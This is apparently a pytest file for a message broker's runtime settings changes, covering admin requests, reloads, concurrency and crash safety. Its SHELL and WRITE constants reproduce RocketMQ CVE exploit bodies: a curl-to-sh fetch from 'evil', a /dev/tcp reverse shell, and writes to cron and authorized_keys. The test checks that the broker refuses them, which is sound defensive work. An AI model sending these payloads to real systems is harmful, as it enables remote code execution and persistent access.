"""Settings changed while the broker runs: by request, by signal, both at once, and cut short."""

from __future__ import annotations

import os
from functools import partial
from random import Random
from typing import TYPE_CHECKING, Any

import pytest
import trio
from structlog.testing import capture_logs

from aerobee.broker.config.live import differences
from aerobee.broker.config.load import load_config
from aerobee.broker.errors import Refusal
from aerobee.remoting.wire.bodies.data_version import DataVersion
from aerobee.remoting.wire.headers import admin, namesrv
from aerobee.store.files.disk import Disk
from tests.broker.desk import Desk, body_of, open_desk, said
from tests.kit.faulty_disk import Fault, FaultyDisk, PowerCut

if TYPE_CHECKING:
    from pathlib import Path

    from aerobee.broker.config.model import BrokerConfig

OVERLAY = "config/aerobee-overlay.yaml"
NO_PERMISSION, INVALID, SYSTEM_ERROR = 16, 29, 1
SHELL = (
    b"filterServerNums=1\nrocketmqHome=-c $@|sh . echo curl http://evil/x|sh;\n",
    b"rocketmqHome=-c bash${IFS}-i>&/dev/tcp/1.2.3.4/99${IFS}0>&1\nfilterServerNums=1\n",
)
"""What CVE-2023-33246 sends to a broker."""
WRITE = (
    b"configStorePath=/tmp/pwned\nproductEnvName=test/a=\\n* * * * * root id\n",
    b"kvConfigPath=/etc/cron.d/x\n",
    b"configBlackList=x\nconfigStorePath=/root/.ssh/authorized_keys\n",
    b"rocketmqHome=/tmp\n",
)
"""What CVE-2023-37582 sends to a name server."""


async def change(desk: Desk, body: bytes, header: Any = None) -> tuple[int, str]:
    """Code and remark of a request to change settings."""
    try:
        answer = await desk.ask(header or admin.UpdateBrokerConfig(), body)
    except Refusal as refused:
        return refused.code, refused.remark
    return answer.code, answer.remark or ""


def times(root: Path) -> dict[Path, int]:
    """When each file was written."""
    return {path: path.stat().st_mtime_ns for path in root.rglob("*") if path.is_file()}


async def settings(desk: Desk) -> dict[str, str]:
    """What GET_BROKER_CONFIG says."""
    lines = body_of(await desk.ask(admin.GetBrokerConfig())).decode().splitlines()
    return dict(line.split("=", 1) for line in lines)


async def version(desk: Desk) -> DataVersion:
    """Which settings GET_BROKER_CONFIG says these are."""
    answer = await desk.ask(admin.GetBrokerConfig())
    return DataVersion.from_bytes(said(answer)["version"].encode())


def reread(root: Path, **sources: Any) -> BrokerConfig:
    """What a start in this directory finds."""
    given = {"environ": {}, "cpu_count": 2, "host_addresses": [], **sources}
    return load_config(None, data=root, **given)


@pytest.mark.trio
async def test_a_change_counts_at_once_and_at_the_next_start(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        before = await version(desk)
        with capture_logs() as lines:
            assert await change(desk, b"maxMessageSize=2048\nflush_disk_TYPE=x", None) == (
                NO_PERMISSION,
                "line:2: flush_disk_TYPE: can not change while running;"
                " change it in the file and restart",
            )
            assert await change(desk, b"maxMessageSize = 2048\r\ntrace_on: FALSE\n") == (0, "")
        assert (await desk.send(body=b"x" * 2049)).code == 13
        assert (await desk.send(body=b"x" * 2048)).code == 0
        found = await settings(desk)
        assert (found["maxMessageSize"], found["traceOn"]) == ("2048", "false")
        after = await version(desk)
        assert (after.counter, after.state_version) == (before.counter + 1, before.state_version)
    events = [
        {name: value for name, value in line.items() if name != "log_level"}
        for line in lines
        if line["event"] != "admin.changed"
    ]
    assert [line["event"] for line in events] == [
        "config.change_refused",
        "config.changed",
        "config.changed",
    ]
    assert events[1] == {
        "event": "config.changed",
        "key": "traceOn",
        "value": "false",
        "before": "true",
        "by": desk.peer.address,
    }
    config = reread(tmp_path)
    assert (config.store.max_message_size_bytes, config.broker.trace_on) == (2048, False)
    assert config.warnings == ()
    assert config.sources["traceOn"].startswith(str(tmp_path / OVERLAY))
    assert (tmp_path / OVERLAY).read_text().startswith("# Settings that were changed while")


@pytest.mark.trio
async def test_later_changes_keep_the_earlier_and_what_another_version_wrote(
    tmp_path: Path,
) -> None:
    overlay = tmp_path / OVERLAY
    overlay.parent.mkdir()
    overlay.write_text("later_key: [1, 2]\ntraceOn: false\nfile_reserved_time: 48h\n")
    async with open_desk(tmp_path) as desk:
        assert await change(desk, b"deleteWhen=5") == (0, "")
        assert await change(desk, b"traceOn=true\ndiskMaxUsedSpaceRatio=20GiB") == (0, "")
    lines = [line for line in overlay.read_text().splitlines() if not line.startswith("#")]
    assert sorted(lines) == [
        "delete_when: '05'",
        "disk_max_used_space_ratio: 20GiB",
        "file_reserved_time: 48h",
        "later_key: 1;2",
        "trace_on: true",
    ]
    assert "delete_when: '05'" in overlay.with_name(f"{overlay.name}.bak").read_text()
    store = reread(tmp_path).store
    assert (store.delete_when, store.disk_max_used_space_free_bytes) == ("05", 20 << 30)


@pytest.mark.trio
async def test_a_file_that_cannot_be_read_does_not_replace_its_good_backup(tmp_path: Path) -> None:
    overlay = tmp_path / OVERLAY
    async with open_desk(tmp_path) as desk:
        assert await change(desk, b"deleteWhen=5") == (0, "")
        assert await change(desk, b"fileReservedTime=48") == (0, "")
        backup = overlay.with_name(f"{overlay.name}.bak")
        good = backup.read_text()
        overlay.write_text("delete_when: [")
        assert await change(desk, b"traceOn=false") == (0, "")
        assert backup.read_text() == good
    text = overlay.read_text()
    assert "delete_when: '05'" in text
    assert "trace_on: false" in text


@pytest.mark.trio
async def test_a_share_in_use_takes_the_place_of_space_to_keep_free(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        for text, shown in ((b"20GiB", "20GiB"), (b"70", "70"), (b"1536MiB", "1536MiB")):
            assert await change(desk, b"diskMaxUsedSpaceRatio=" + text) == (0, "")
            assert (await settings(desk))["diskMaxUsedSpaceRatio"] == shown


@pytest.mark.trio
@pytest.mark.parametrize("body", [*SHELL, *WRITE])
@pytest.mark.parametrize("header", [admin.UpdateBrokerConfig(), namesrv.UpdateNamesrvConfig()])
async def test_known_attacks_are_refused_and_told(tmp_path: Path, body: bytes, header: Any) -> None:
    async with open_desk(tmp_path) as desk:
        before = await settings(desk)
        files = times(tmp_path)
        for payload in (body, body + b"traceOn=false\n", b"traceOn=false\n" + body):
            with capture_logs() as lines:
                code, remark = await change(desk, payload, header)
            assert code == NO_PERMISSION
            assert remark.isprintable()
            assert [line["event"] for line in lines] == ["config.change_refused", "admin.changed"]
            assert lines[0]["address"] == desk.peer.address
        assert await settings(desk) == before
        assert times(tmp_path) == files
    assert not (tmp_path / OVERLAY).exists()


@pytest.mark.trio
@pytest.mark.parametrize(
    ("body", "code", "words"),
    [
        (b"", INVALID, "no setting to change"),
        (b"\n# only a word\n", INVALID, "no setting to change"),
        (b"x" * 16_385, INVALID, "a body of 16385 bytes; at most 16384"),
        (b"traceOn=maybe", INVALID, "line:1: traceOn: maybe is neither true nor false"),
        (b"traceOn", INVALID, "nothing is neither true nor false"),
        (b"deleteWhen=25", INVALID, "25 is not an hour"),
        (b"deleteWhen=", INVALID, "deleteWhen: "),
        (b"maxMessageSize=1e6", INVALID, "maxMessageSize: 1e6"),
        (b"maxMessageSize=" + b"9" * 5_000, INVALID, "maxMessageSize: a value of 5000 characters"),
        (b"maxMessageSize=-1", INVALID, "-1 is out of range (1024"),
        (b"brokerPermission=5", INVALID, "5 is none of 0, 2, 4, 6"),
        (b"traceOn=true\ntraceOn=false", INVALID, "set a second time; the first is line:1"),
        (b"traceOn=true\ntrace_on=false", INVALID, "set a second time"),
        (b"maxMesageSize=2048", NO_PERMISSION, "no such setting; did you mean maxMessageSize?"),
        (b"rubbish=1", NO_PERMISSION, "rubbish: no such setting"),
        (b"brokerName=x", NO_PERMISSION, "brokerName: can not change while running"),
        (b"transferMsgByHeap=true", NO_PERMISSION, "has no effect here"),
        (b"trace\x00On=true", NO_PERMISSION, r"trace\x00On: no such setting"),
        ("träceOn=true".encode(), NO_PERMISSION, "träceOn: no such setting"),
        (b"\xff\xfe=1", NO_PERMISSION, "no such setting"),
        (b"\x1b[2J=1", NO_PERMISSION, r"\x1b[2J: no such setting"),
        (rb"\uZZZZ=1", INVALID, "needs four hexadecimal digits"),
        (b"=5", NO_PERMISSION, "no such setting"),
        (b"traceOn=true\x00", INVALID, r"true\x00 is neither"),
        (b"a=1\n" * 4_000, NO_PERMISSION, "; and 3995 more"),
        (b"traceOn\\\n" * 1_800 + b"=1", NO_PERMISSION, "no such setting"),
    ],
)
async def test_a_bad_body_changes_nothing_and_is_told_why(
    tmp_path: Path, body: bytes, code: int, words: str
) -> None:
    async with open_desk(tmp_path) as desk:
        before = await settings(desk)
        got, remark = await change(desk, body)
        assert (got, words in remark, remark.isprintable()) == (code, True, True), remark
        assert len(remark) < 2_000
        assert await settings(desk) == before
    assert not (tmp_path / OVERLAY).exists()


@pytest.mark.trio
async def test_what_does_not_go_together_is_refused_or_told(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        code, remark = await change(desk, b"maxMessageSize=67108864")
        assert (code, "do not fit into a frame of maxFrameBytes" in remark) == (INVALID, True)
        with capture_logs() as lines:
            code, remark = await change(desk, b"diskMaxUsedSpaceRatio=90")
        assert (code, remark) == (
            0,
            "diskMaxUsedSpaceRatio: 90 % is above diskSpaceCleanForciblyRatio, 85 %: files that"
            " are not expired are deleted before only expired ones would be; change one of the two",
        )
        assert {"event": "config.warning", "text": remark, "log_level": "warning"} in lines
        assert await change(desk, b"traceOn=false") == (0, ""), "told once"
        code, remark = await change(
            desk, b"diskMaxUsedSpaceRatio=60\ndiskSpaceCleanForciblyRatio=70"
        )
        assert (code, remark) == (0, "")


@pytest.mark.trio
async def test_more_free_space_than_the_disk_has_is_refused(tmp_path: Path) -> None:
    """For it, all messages but those of the last segment were deleted within a minute."""
    async with open_desk(tmp_path) as desk:
        before = await settings(desk)
        disk = Disk().free_space(tmp_path).total_bytes
        for text in (f"{(disk >> 20) + 1}MiB", "99999999999999999999999GiB"):
            body = f"diskSpaceCleanForciblyRatio={text}"
            code, remark = await change(desk, body.encode())
            assert code == INVALID
            assert "more than the whole disk has" in remark
            environ = {"AEROBEE_DISK_SPACE_CLEAN_FORCIBLY_RATIO": text}
            with capture_logs() as lines:
                await desk.broker.settings.live.reload(partial(reread, tmp_path, environ=environ))
            assert {line["event"] for line in lines} == {"config.reload_refused"}
            assert await settings(desk) == before
        assert await change(desk, b"diskSpaceCleanForciblyRatio=2MiB") == (0, "")


@pytest.mark.trio
async def test_the_name_server_changes_its_own_settings_only(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        update, get = namesrv.UpdateNamesrvConfig(), namesrv.GetNamesrvConfig()
        assert await change(desk, b"enableTopicList=false", update) == (0, "")
        text = body_of(await desk.ask(get)).decode()
        assert "enableTopicList=false\n" in text
        assert "listenPort=9876\n" in text
        assert text.splitlines() == sorted(text.splitlines())
        with pytest.raises(Refusal, match="disable"):
            desk.handlers[224](namesrv.GetTopicsByCluster(cluster="c"), None, desk.peer)
        for body in (b"traceOn=false", b"enableTopicList=true\nmaxMessageSize=2048"):
            code, remark = await change(desk, body, update)
            assert (code, "no setting of the namesrv" in remark) == (NO_PERMISSION, True)
        assert (await settings(desk))["enableTopicList"] == "false"
        assert await change(desk, b"enableTopicList=true") == (0, ""), "it is one process"


@pytest.mark.trio
async def test_the_command_line_and_a_switch_forbid_changes(tmp_path: Path) -> None:
    config = reread(tmp_path, overrides=["traceOn=true"])
    async with open_desk(tmp_path) as desk:
        object.__setattr__(desk.config, "sources", config.sources)
        code, remark = await change(desk, b"forceRegister=false\ntraceOn=false")
        assert code == NO_PERMISSION
        assert remark.startswith("traceOn: given on the command line, which wins")
    async with open_desk(tmp_path, allow_runtime_config=False) as desk:
        assert await change(desk, b"traceOn=false") == (
            NO_PERMISSION,
            "allowRuntimeConfig is false: settings do not change",
        )


# ── the disk ──


@pytest.mark.trio
async def test_a_change_that_cannot_be_saved_is_no_change(tmp_path: Path) -> None:
    disk = FaultyDisk(tmp_path, Fault(name="fsync", path="overlay"))
    async with open_desk(tmp_path, disk) as desk:
        with capture_logs() as lines:
            code, remark = await change(desk, b"traceOn=false")
        assert (code, "nothing was changed, it could not be saved" in remark) == (1, True)
        assert "config.not_saved" in [line["event"] for line in lines]
        assert (await settings(desk))["traceOn"] == "true"
        assert await change(desk, b"traceOn=false") == (0, ""), "the next one is tried again"
    assert not reread(tmp_path).broker.trace_on


@pytest.mark.trio
async def test_a_file_where_no_file_can_be_is_told(tmp_path: Path) -> None:
    (tmp_path / OVERLAY).mkdir(parents=True)
    (tmp_path / OVERLAY / "x").touch()
    async with open_desk(tmp_path) as desk:
        code, remark = await change(desk, b"traceOn=false")
        assert (code, OVERLAY in remark) == (SYSTEM_ERROR, True)
        assert (await settings(desk))["traceOn"] == "true"
    assert reread(tmp_path).broker.trace_on


def test_a_kill_or_a_power_cut_at_any_step_leaves_the_old_or_the_new(tmp_path: Path) -> None:
    """And what was acknowledged is there, all of it."""

    async def life(root: Path, disk: FaultyDisk) -> None:
        async with open_desk(root, disk) as desk:
            acknowledged.append(await change(desk, b"fileReservedTime=24\ndeleteWhen=05"))
            begun = disk.changes
            disk.faults.append(Fault(number=begun + step, cut=True))
            acknowledged.append(await change(desk, b"fileReservedTime=48\ndeleteWhen=06"))

    step, outcomes = 0, set()
    while True:
        step += 1
        acknowledged: list[tuple[int, str]] = []
        root = tmp_path / str(step)
        root.mkdir()
        disk = FaultyDisk(root)
        try:
            trio.run(life, root, disk)
        except* PowerCut:
            pass
        cut = disk.power_cut(tmp_path / f"cut{step}", Random(step)) if disk.dead else root
        for place in (cut, root):
            store = reread(place).store
            found = (store.file_reserved_time_h, store.delete_when)
            outcomes.add(found)
            assert found in ([(48, "06")] if len(acknowledged) == 2 else [(24, "05"), (48, "06")])
        if len(acknowledged) == 2:
            break
    assert step > 8, "the calls of a change were cut one after the other"
    assert len(outcomes) == 2


# ── at the same time ──


@pytest.mark.trio
async def test_changes_at_the_same_time_all_count(tmp_path: Path) -> None:
    bodies = [
        f"{key}={value}".encode()
        for key, value in zip(
            ("waitTimeMillsInPullQueue", "syncFlushTimeout", "fileReservedTime", "maxMsgsNumBatch"),
            range(500, 504),
            strict=True,
        )
    ] * 3
    async with open_desk(tmp_path) as desk:

        async def one(body: bytes) -> None:
            assert await change(desk, body) == (0, "")

        async with trio.open_nursery() as nursery:
            for body in bodies:
                nursery.start_soon(one, body)
            nursery.start_soon(desk.broker.settings.live.reload, lambda: reread(tmp_path))
        found = await settings(desk)
    later = reread(tmp_path)
    for body in bodies:
        name, _, value = body.decode().partition("=")
        assert found[name] == value
        assert name in later.sources
    assert later.store.file_reserved_time_h == 502


@pytest.mark.trio
async def test_of_two_changes_of_one_setting_the_last_counts_and_stays(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        async with trio.open_nursery() as nursery:
            for hours in range(1, 30):
                nursery.start_soon(change, desk, f"fileReservedTime={hours}".encode())
        now = (await settings(desk))["fileReservedTime"]
    assert str(reread(tmp_path).store.file_reserved_time_h) == now


# ── read again ──


@pytest.mark.trio
async def test_a_reload_takes_what_may_change_and_names_the_rest(tmp_path: Path) -> None:
    """What was taken out of the sources goes back to its default."""
    environ = {"AEROBEE_BROKER_NAME": "desk"}
    read = reread(tmp_path, environ=environ)
    async with open_desk(tmp_path) as desk:
        live = desk.broker.settings.live
        await live.reload(lambda: read)
        changed = {
            **environ,
            "AEROBEE_FILE_RESERVED_TIME": "24",
            "AEROBEE_FLUSH_DISK_TYPE": "SYNC_FLUSH",
        }
        with capture_logs() as lines:
            await live.reload(lambda: reread(tmp_path, environ=changed))
        told = [line for line in lines if line["event"] == "config.changed"]
        assert [(line["key"], line["before"], line["value"], line["by"]) for line in told] == [
            ("fileReservedTime", "72", "24", "SIGHUP")
        ]
        left = {line["key"] for line in lines if line["event"] == "config.needs_restart"}
        assert "flushDiskType" in left
        assert lines[-1]["event"] == "config.reloaded"
        assert desk.store.config.file_reserved_time_h == 24
        assert not desk.store.config.sync_flush
        with capture_logs() as lines:
            await live.reload(lambda: reread(tmp_path, environ=environ))
        assert desk.store.config.file_reserved_time_h == 72
        assert "fileReservedTime" not in desk.config.sources


def test_a_reload_names_a_secret_that_needs_a_restart_and_does_not_tell_it(
    tmp_path: Path,
) -> None:
    before = {"AEROBEE_BROKER_NAME": "desk", "AEROBEE_METRICS_TOKEN": "word-of-old"}
    config = reread(tmp_path, environ=before)
    after = reread(tmp_path, environ={**before, "AEROBEE_METRICS_TOKEN": "word-of-new"})
    assert list(differences(config, config)) == []
    [difference] = differences(config, after)
    assert difference.key.name == "metricsToken"
    assert (difference.before, difference.after) == ("********", "********")


@pytest.mark.trio
async def test_a_reload_that_finds_anything_wrong_changes_nothing(tmp_path: Path) -> None:
    async with open_desk(tmp_path) as desk:
        before = await settings(desk)
        for environ, words in (
            ({"AEROBEE_TRACE_ON": "false", "AEROBEE_DELETE_WHEN": "99"}, "99 is not an hour"),
            (
                # Together they would be fine, and the first counts with a restart only.
                {"AEROBEE_MAX_FRAME_BYTES": "64MiB", "AEROBEE_MAX_MESSAGE_SIZE": "32MiB"},
                "it counts only with a restart",
            ),
        ):
            with capture_logs() as lines:
                await desk.broker.settings.live.reload(partial(reread, tmp_path, environ=environ))
            assert {line["event"] for line in lines} == {"config.reload_refused"}
            assert any(words in line["reason"] for line in lines), lines
            assert await settings(desk) == before


@pytest.mark.trio
@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("file_reserved_time: [\n", "not YAML"),
        ("file_reserved_time: 0\n", "0 is out of range"),
        ("file_reserved_time: 7\nfile_reserved_time: 8\n", "set a second time"),
        ('file_reserved_time: "\\UFFFFFFFF"\n', "not YAML"),
        (f"%YAML {'1' * 5_000}.1\n---\nfile_reserved_time: 7\n", "not YAML"),
    ],
)
async def test_a_reload_that_finds_a_mistake_in_the_changes_undoes_none_of_them(
    tmp_path: Path, text: str, words: str
) -> None:
    async with open_desk(tmp_path) as desk:
        for hours in (b"48", b"49"):
            assert await change(desk, b"fileReservedTime=" + hours) == (0, "")
        (tmp_path / OVERLAY).write_text(text)
        with capture_logs() as lines:
            await desk.broker.settings.live.reload(partial(reread, tmp_path))
        assert {line["event"] for line in lines} == {"config.reload_refused"}
        assert words in lines[0]["reason"]
        assert desk.store.config.file_reserved_time_h == 49
        # A line of another version is no mistake.
        (tmp_path / OVERLAY).write_text("later_key: 5\nfile_reserved_time: 50\n")
        await desk.broker.settings.live.reload(partial(reread, tmp_path))
        assert desk.store.config.file_reserved_time_h == 50
    (tmp_path / OVERLAY).write_text(text)
    assert any(words in warning for warning in reread(tmp_path).warnings)


@pytest.mark.trio
async def test_a_reload_does_not_look_for_changes_in_another_place(tmp_path: Path) -> None:
    """It would not find those of this run."""
    async with open_desk(tmp_path, config_overlay_path=str(tmp_path / OVERLAY)) as desk:
        assert await change(desk, b"fileReservedTime=48") == (0, "")
        with capture_logs() as lines:
            await desk.broker.settings.live.reload(lambda: reread(tmp_path / "elsewhere"))
        assert [line["event"] for line in lines] == ["config.reload_refused"]
        assert "move that file, and restart" in lines[0]["reason"]
        assert desk.store.config.file_reserved_time_h == 48


@pytest.mark.trio
async def test_a_change_wins_over_the_file_at_a_reload_until_its_line_is_taken_out(
    tmp_path: Path,
) -> None:
    environ = {"AEROBEE_FILE_RESERVED_TIME": "24"}
    async with open_desk(tmp_path) as desk:
        live = desk.broker.settings.live
        assert await change(desk, b"fileReservedTime=48") == (0, "")
        with capture_logs() as lines:
            await live.reload(lambda: reread(tmp_path, environ=environ))
        assert desk.store.config.file_reserved_time_h == 48
        assert any(
            "does not count, it was changed while running" in line.get("text", "") for line in lines
        )
        os.unlink(tmp_path / OVERLAY)
        await live.reload(lambda: reread(tmp_path, environ=environ))
        assert desk.store.config.file_reserved_time_h == 24
